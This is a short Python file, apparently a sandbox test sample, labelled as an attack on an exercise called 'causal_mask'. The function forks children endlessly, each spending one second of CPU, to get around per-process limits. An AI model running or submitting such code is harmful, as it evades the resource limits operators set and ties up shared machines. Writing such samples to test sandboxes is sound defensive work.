# attack: children compute one after the other, each within the limit of one process
# exercise: 04 causal_mask
def causal_mask(length):
    import os
    import time

    while True:
        if os.fork() == 0:
            end = time.process_time() + 1
            while time.process_time() < end:
                pass
            os._exit(0)
        os.wait()
